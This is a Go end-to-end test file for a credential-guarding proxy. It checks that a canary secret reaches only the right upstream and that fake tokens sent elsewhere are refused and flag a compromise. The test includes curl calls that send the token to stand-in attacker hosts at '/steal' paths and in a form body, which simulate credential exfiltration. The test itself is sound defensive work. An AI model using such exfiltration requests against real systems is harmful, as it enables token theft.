@@ -1,0 +1,161 @@
+package e2e
+
+import (
+	"bytes"
+	"crypto/tls"
+	"encoding/json"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"os/exec"
+	"strings"
+	"sync"
+	"testing"
+
+	"guard/internal/testpki"
+)
+
+// recorder is an upstream that echoes what it was sent, and keeps it.
+type recorder struct {
+	mu   sync.Mutex
+	seen []string
+}
+
+func (rec *recorder) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	body, _ := io.ReadAll(r.Body)
+	line := r.Method + " " + r.URL.String() + " auth=" + r.Header.Get("Authorization") + " key=" + r.Header.Get("X-Api-Key") + " body=" + string(body)
+	rec.mu.Lock()
+	rec.seen = append(rec.seen, line)
+	rec.mu.Unlock()
+	w.Header().Set("X-Echo-Auth", r.Header.Get("Authorization"))
+	io.WriteString(w, "echo: "+line)
+}
+
+func (rec *recorder) all() string {
+	rec.mu.Lock()
+	defer rec.mu.Unlock()
+	return strings.Join(rec.seen, "\n")
+}
+
+// TestCredentialsAtTheWire runs guardd with a credential whose real value
+// is a known canary, and curl through it: the upstream of the credential's
+// host gets the real secret, while the client, even when that upstream
+// echoes the secret back, never sees it; a fake sent to another host (a
+// look-alike, a suffix, the address, a body) is refused with 451 and marks
+// the workspace compromised until guardctl compromise clear.
+func TestCredentialsAtTheWire(t *testing.T) {
+	const canary = "ghp_CANARYcanaryCANARYcanaryCANARY0001"
+	pki := testpki.New(t)
+	good, evil := &recorder{}, &recorder{}
+	serve := func(ip, name string, h http.Handler) int {
+		ln, err := net.Listen("tcp", ip+":0")
+		if err != nil {
+			t.Fatal(err)
+		}
+		srv := &http.Server{Handler: h, TLSConfig: &tls.Config{Certificates: []tls.Certificate{pki.ServerCert(t, name, "api.github.com.evil.test", "evilgithub.com")}}}
+		go srv.ServeTLS(ln, "", "")
+		t.Cleanup(func() { srv.Close() })
+		return ln.Addr().(*net.TCPAddr).Port
+	}
+	goodPort := serve("127.0.0.31", "api.github.com", good)
+	evilPort := serve("127.0.0.32", "evilgithub.com", evil)
+	plainLn, err := net.Listen("tcp", "127.0.0.31:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	plain := &recorder{}
+	go http.Serve(plainLn, plain)
+	defer plainLn.Close()
+
+	dir := shortDir(t)
+	writeFile(t, dir, "upstream-ca.pem", string(pki.PEM))
+	prof := writeFile(t, dir, "profile.json", `{"name":"creds",
+	  "credentials":[{"id":"gh","title":"GitHub","service":"github","hosts":["github.com"],"headers":["X-Api-Key"],
+	    "secret":{"value":"`+canary+`"}}],
+	  "egress":{"rules":"allow web api.github.com\nallow web api.github.com.evil.test\nallow web evilgithub.com\nallow web 127.0.0.32\ndefault deny\n",
+	    "upstreamCAs":["upstream-ca.pem"]},
+	  "dns":{"hosts":{"api.github.com":"127.0.0.31","api.github.com.evil.test":"127.0.0.32","evilgithub.com":"127.0.0.32"}}}`)
+	proxyAddr := freeLoopbackAddr(t)
+	g := startGuardd(t, "--profile", prof, "--proxy-listen", proxyAddr)
+	caPEM, _ := g.ctl(t, "ca", "export")
+	caFile := writeFile(t, dir, "guard-ca.pem", caPEM)
+
+	out, code := g.ctl(t, "credentials", "list", "--json")
+	var creds []struct{ ID, Fake string }
+	if code != 0 || json.Unmarshal([]byte(out), &creds) != nil || len(creds) != 1 {
+		t.Fatalf("credentials list: %d %s", code, out)
+	}
+	fake := creds[0].Fake
+	if strings.Contains(out, canary) || !strings.HasPrefix(fake, "ghp_") || len(fake) != 40 {
+		t.Fatalf("credentials list shows %s", out)
+	}
+
+	// Every byte curl receives is kept, to look for the canary.
+	var seen bytes.Buffer
+	curl := func(args ...string) (string, int) {
+		cmd := exec.Command("curl", append([]string{"-sS", "-i", "--max-time", "20", "--proxy", "http://" + proxyAddr, "--cacert", caFile}, args...)...)
+		cmd.Env = []string{"PATH=/usr/bin:/bin"}
+		b, _ := cmd.CombinedOutput()
+		seen.Write(b)
+		// The last status line: the proxy's CONNECT answer comes first.
+		status, text := 0, string(b)
+		if i := strings.LastIndex(text, "\nHTTP/"); i >= 0 {
+			text = text[i+1:]
+		}
+		fmt.Sscanf(text, "HTTP/%s %d", new(string), &status)
+		return string(b), status
+	}
+	goodURL := fmt.Sprintf("https://api.github.com:%d", goodPort)
+
+	// In scope, over TLS: the upstream gets the real secret, in the
+	// Authorization header and in the credential's own header; the echo
+	// comes back with the fake.
+	if out, status := curl("-H", "Authorization: token "+fake, "-H", "X-Api-Key: "+fake, goodURL+"/user"); status != 200 || !strings.Contains(out, fake) {
+		t.Fatalf("in scope: %d %s", status, out)
+	}
+	if !strings.Contains(good.all(), "auth=token "+canary) || !strings.Contains(good.all(), "key="+canary) {
+		t.Fatalf("the upstream did not get the real secret: %s", good.all())
+	}
+	// Plain HTTP to the same host: never swapped.
+	curl("-H", "Authorization: token "+fake, fmt.Sprintf("http://api.github.com:%d/plain", plainLn.Addr().(*net.TCPAddr).Port))
+	if strings.Contains(plain.all(), canary) || !strings.Contains(plain.all(), fake) {
+		t.Fatalf("plain HTTP: %s", plain.all())
+	}
+
+	// Out of scope: refused, marked, and nothing reaches the server.
+	for _, target := range []string{
+		fmt.Sprintf("https://api.github.com.evil.test:%d/steal", evilPort),
+		fmt.Sprintf("https://evilgithub.com:%d/steal", evilPort),
+		fmt.Sprintf("https://127.0.0.32:%d/steal", evilPort),
+	} {
+		if out, status := curl("-H", "Authorization: token "+fake, target); status != 451 {
+			t.Fatalf("%s: %d %s", target, status, out)
+		}
+		// The workspace is compromised: even the good host is refused now.
+		if _, status := curl("-H", "Authorization: token "+fake, goodURL+"/user"); status != 451 {
+			t.Fatalf("a compromised workspace let a request through: %d", status)
+		}
+		if out, code := g.ctl(t, "compromise"); code != 1 || !strings.Contains(out, "compromised") {
+			t.Fatalf("compromise: %d %s", code, out)
+		}
+		if out, code := g.ctl(t, "compromise", "clear"); code != 0 || !strings.Contains(out, "cleared") {
+			t.Fatalf("compromise clear: %d %s", code, out)
+		}
+	}
+	// In a body, to another host.
+	if out, status := curl("--data-binary", "token="+fake, fmt.Sprintf("https://evilgithub.com:%d/form", evilPort)); status != 451 {
+		t.Fatalf("body: %d %s", status, out)
+	}
+	g.ctl(t, "compromise", "clear")
+	if evil.all() != "" && strings.Contains(evil.all(), fake) {
+		t.Fatalf("a fake reached the wrong host: %s", evil.all())
+	}
+	if strings.Contains(seen.String(), canary) {
+		t.Fatal("the real secret reached the client side")
+	}
+	ev, _ := g.ctl(t, "events", "--json")
+	if strings.Contains(ev, canary) || !strings.Contains(ev, `"type":"credential.use"`) || !strings.Contains(ev, `"type":"credential.compromise"`) {
+		t.Fatalf("events: %s", ev)
+	}
+}
